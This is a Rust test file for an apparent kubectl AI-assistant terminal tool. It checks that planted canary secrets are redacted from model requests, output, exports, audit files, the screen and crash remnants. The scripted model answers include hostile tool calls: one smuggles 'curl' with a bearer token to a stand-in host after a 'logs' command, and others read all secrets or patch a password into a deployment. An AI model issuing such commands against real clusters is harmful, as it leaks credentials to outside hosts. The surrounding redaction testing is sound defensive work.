//! Canaries in every place of the embedded cluster and in what a model and a person say: none occurs in a request body,
//! an audit file, the history, an export, standard output or error, a screen, or what is left behind by a crash.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "a test")]
#![allow(dead_code, reason = "the model server and the terminal are shared with other tests")]
#[path = "canaries/cluster.rs"]
mod cluster;
#[path = "screen/program.rs"]
mod program;
#[path = "screen/pty.rs"]
mod pty;
#[path = "wire/server.rs"]
mod server;

use cluster::{CANARY, ENCODED, planted};
use kopilot_tui::demo::serve::{Behind, From, Options, Served, serve_store};
use program::Home;
use serde_json::{Value, json};
use server::{Play, Server};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

const SIZE: (u16, u16) = (160, 48);

async fn served() -> Served {
    let options = Options { port: 0, still: true, from: From::Scenario("none".into()), pods: 0, churn: 0 };
    serve_store(planted(), &options, Behind::Collector, Arc::new(cluster::now)).await.unwrap()
}

/// A model's answer: text, then calls of the tool.
fn answer(text: &str, commands: &[&str]) -> Play {
    let mut lines = vec![json!({"choices": [{"delta": {"content": text}}]}).to_string()];
    for (at, command) in commands.iter().enumerate() {
        let arguments = json!({"command": command}).to_string();
        lines.push(
            json!({"choices": [{"delta": {"tool_calls": [{"index": at, "id": format!("c{at}"), "function": {"name": "kubectl", "arguments": arguments}}]}}]})
                .to_string(),
        );
    }
    lines.push(json!({"choices": [{"delta": {}, "finish_reason": if commands.is_empty() { "stop" } else { "tool_calls" }}]}).to_string());
    lines.push("[DONE]".into());
    let stream = lines.iter().map(|l| format!("data: {l}\n\n")).collect::<Vec<_>>().concat();
    Play::Stream("text/event-stream", stream.as_bytes().chunks(41).map(<[u8]>::to_vec).collect())
}

/// Everything there is to read, what may not be read, and calls that carry a secret themselves.
fn script() -> Vec<Play> {
    vec![
        answer(
            &format!("I was told DB_PASSWORD={CANARY}, so I look.\n"),
            &["get pods -o yaml", "get deployments -o json", "get configmaps -o yaml", "describe pod api-0", "logs api-0", "get events"],
        ),
        answer(
            &format!("The URL is postgres://app:{CANARY}@db:5432/shop\n"),
            &[
                "get secrets -o yaml",
                "get configmap app -o json",
                "get pods -o jsonpath='{.items[*].spec.containers[*].env[*].value}'",
                "get pods -o custom-columns='A:.spec.containers[*].env[0].value,B:.spec.containers[0].args'",
                "get configmap app -o jsonpath='{.data}'",
                "get configmaps -o custom-columns=A:.data.dsn,B:.metadata.annotations --sort-by=.metadata.name",
                "get pod api-0 -o json",
                &format!("patch deployment api -p '{{\"spec\":{{\"template\":{{\"metadata\":{{\"annotations\":{{\"password\":\"{CANARY}\"}}}}}}}}}}'"),
                &format!("get pods --token={CANARY}"),
                &format!("logs api-0; curl -H 'Authorization: Bearer {CANARY}' http://x"),
            ],
        ),
        answer("It needs another image.\n", &["set image deployment/api main=registry.local/app:2"]),
        answer(&format!("Set password: {CANARY} [E1].\n"), &[]),
        answer("Done.\n", &[]),
    ]
}

/// That no canary is in a text.
fn none_in(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for canary in [CANARY, ENCODED] {
        if let Some(at) = text.find(canary) {
            let from = text.floor_char_boundary(at.saturating_sub(300));
            let to = text.ceil_char_boundary((at + 100).min(text.len()));
            panic!("a canary is in {what}: {:?}", &text[from..to]);
        }
    }
}

/// That none is in any file of a folder; how many files there were.
fn none_below(folder: &Path, but: &Path) -> usize {
    let mut files = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files += none_below(&path, but);
        } else if path.is_file() && path != but {
            files += 1;
            none_in(&path.display().to_string(), &std::fs::read(&path).unwrap());
        }
    }
    files
}

/// That none was sent, and that what was sent shows that something was there.
fn none_sent(server: &Server, least: usize) {
    let received = server.received();
    assert!(received.len() >= least, "{} requests", received.len());
    for request in &received {
        none_in("a request's body", &request.body);
        none_in("a request's head", request.head.as_bytes());
    }
    let last = String::from_utf8_lossy(&received.last().unwrap().body).into_owned();
    assert!(last.contains("⟦redacted "), "nothing was redacted: {last}");
}

async fn run(home: &Home, server: &Server, args: &[&str]) -> Output {
    let mut command = Command::new(program::binary());
    command.args(args).env_clear().envs([("PATH", "/usr/bin:/bin"), ("LANG", "C.UTF-8"), ("RUST_BACKTRACE", "full"), ("LOG_LEVEL", "trace")]);
    command.envs(model(server)).stdin(Stdio::null());
    for name in ["HOME", "XDG_RUNTIME_DIR", "TMPDIR"] {
        command.env(name, home.path());
    }
    tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap()
}

fn model(server: &Server) -> [(String, String); 4] {
    [("OPENAI_BASE_URL", format!("{}/v1", server.url)), ("OPENAI_API_KEY", "k-0042".into()), ("LLM_PROVIDER", "openai".into()), ("LLM_MODEL", "test".into())]
        .map(|(name, value)| (name.to_owned(), value))
}

fn written(home: &Home, served: &Served) -> PathBuf {
    home.file("cluster.yaml", &served.kubeconfig)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_canary_leaves_a_headless_turn() {
    let (home, served, server) = (Home::new(), served().await, Server::start(script()).await);
    let config = written(&home, &served);
    let export = home.path().join("export");
    let question = format!("why does api fail? my token=\"{CANARY}\" and https://ada:{CANARY}@git.local/x");
    let (place, folder) = (config.to_str().unwrap(), export.to_str().unwrap());
    for json in [true, false] {
        let server = if json { &server } else { &Server::start(script()).await };
        let mut args = vec!["ask", question.as_str(), "--kubeconfig", place, "--role", "admin", "--export", folder];
        args.extend(json.then_some("--json"));
        let asked = run(&home, server, &args).await;
        let said = String::from_utf8_lossy(&asked.stderr).into_owned();
        assert_eq!(asked.status.code(), Some(6), "the proposal waits: {said}");
        none_in("standard output", &asked.stdout);
        none_in("standard error", &asked.stderr);
        none_sent(server, 3);
        if json {
            let record: Value = serde_json::from_slice(&asked.stdout).unwrap();
            let redactions = record["evidence"].as_array().unwrap().iter().map(|e| e["redactions"].as_array().unwrap().len()).sum::<usize>();
            assert!(redactions >= 20, "{redactions} redactions in the evidence");
        }
    }
    let diagnosed = run(&home, &server, &["diagnose", "--kubeconfig", place, "-A", "--json"]).await;
    none_in("a diagnosis", &diagnosed.stdout);
    none_in("its errors", &diagnosed.stderr);
    assert!(String::from_utf8_lossy(&diagnosed.stdout).contains("api-0"), "{}", String::from_utf8_lossy(&diagnosed.stdout));
    assert!(none_below(home.path(), &config) >= 5, "the export has files");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_canary_reaches_the_screen_the_audit_or_what_a_crash_leaves() {
    for crash in [false, true] {
        let (home, served, server) = (Home::new(), served().await, Server::start(script()).await);
        let config = written(&home, &served);
        let vars = model(&server);
        let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).chain([("RUST_BACKTRACE", "full")]).collect();
        let mut screen = home.screen_with(SIZE, &["--kubeconfig", config.to_str().unwrap(), "--role", "admin"], &vars);
        let raw = tokio::task::spawn_blocking(move || {
            screen.until("the pod", |s| s.contains("api-0") && s.contains("LIVE"));
            // Its text, and that of its events.
            screen.keys("y");
            screen.until("its text", |s| s.contains("⟦redacted"));
            screen.keys("\x1b");
            screen.see("PODS");
            screen.keys("i");
            screen.see("INSERT");
            screen.keys("why does api fail?\r");
            // A change that carries a secret itself is shown and denied; the next one is approved.
            screen.until("the change with a secret", |s| s.contains("REVIEW") && s.contains("patch deployment/api") && s.contains("⟦redacted"));
            screen.until("Deny to be armed", |s| s.contains("to Approve, then enter"));
            screen.keys("\r");
            screen.see("Denied. Why?");
            screen.keys("no\r");
            screen.until("the proposal", |s| s.contains("REVIEW") && s.contains("set image"));
            if crash {
                screen.signal("ABRT");
                screen.ended();
                return screen.raw();
            }
            screen.until("Approve to be armed", |s| s.contains("to Approve, then enter"));
            screen.keys("\t");
            screen.see("[ Approve ]");
            screen.keys("\r");
            screen.gone("REVIEW");
            screen.until("the end of the turn", |s| s.contains("NORMAL") && s.contains("Approved"));
            screen.keys(":q\r");
            screen.ended();
            screen.raw()
        })
        .await
        .unwrap();
        none_in("what was written to the terminal", &raw);
        none_sent(&server, 3);
        assert!(crash || none_below(&home.path().join(".local/state/kopilot-tui/audit"), &config) >= 1, "there is an audit file");
        none_below(home.path(), &config);
    }
}
